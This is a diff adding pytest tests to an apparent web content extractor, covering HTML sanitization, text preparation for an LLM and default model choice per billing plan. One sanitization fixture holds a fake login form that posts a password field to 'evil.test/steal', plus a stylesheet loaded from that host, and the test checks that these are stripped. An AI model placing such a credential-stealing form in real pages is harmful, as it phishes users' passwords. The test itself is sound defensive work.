@@ -110,3 +110,34 @@ def test_dates_are_normalised_never_invented(raw, expected):
     from extractor.pipeline.article import iso_date
 
     assert iso_date(raw) == expected
+
+
+def test_output_html_has_no_form_controls_stylesheets_or_meta():
+    page = ('<link rel="stylesheet" href="https://evil.test/x.css"><form action="https://evil.test/steal">'
+            '<input type="password" name="pw"><button>Log in</button><p>Hi</p></form><meta name="a" content="b">')
+    html = extract(type="article", format="json", content={"title": "T", "html": page}).data["html"]
+    assert "<p>Hi</p>" in html
+    for tag in ("<link", "<form", "<input", "<button", "<meta"):
+        assert tag not in html
+
+
+def test_the_llm_reads_structured_data_and_visible_text_not_markup():
+    from extractor.pipeline.formats import text_for_llm
+
+    page = sanitize_content(format="html", content=(
+        '<html><head><title>Blue  Widget | Shop</title><script type="application/ld+json">{"@type":"Product","sku":"BW-1"}</script>'
+        '</head><body><nav class="menu"><a href="/">Home</a></nav><h1>Blue Widget</h1><p class="price">19.99 EUR</p></body></html>'))
+    text = text_for_llm("html", page)
+    assert text.startswith("Title: Blue Widget | Shop") and '"sku":"BW-1"' in text.replace(" ", "")
+    assert "Blue Widget\n19.99 EUR" in text and "<" not in text.split("Structured data")[0] and "class=" not in text
+    assert text_for_llm("markdown", "# T\n\nx") == "# T\n\nx"
+
+
+def test_jobs_without_a_model_use_one_the_plan_allows(settings, db):
+    from billing import services as billing
+    from extractor.services import default_llm_model
+
+    settings.LLM_DEFAULT_MODEL = "house-model"
+    assert default_llm_model(billing.plan_create(name="any")) == "house-model"
+    assert default_llm_model(billing.plan_create(name="picky", llm_models=["small", "large"])) == "small"
+    assert default_llm_model(billing.plan_create(name="incl", llm_models=["large", "house-model"])) == "house-model"
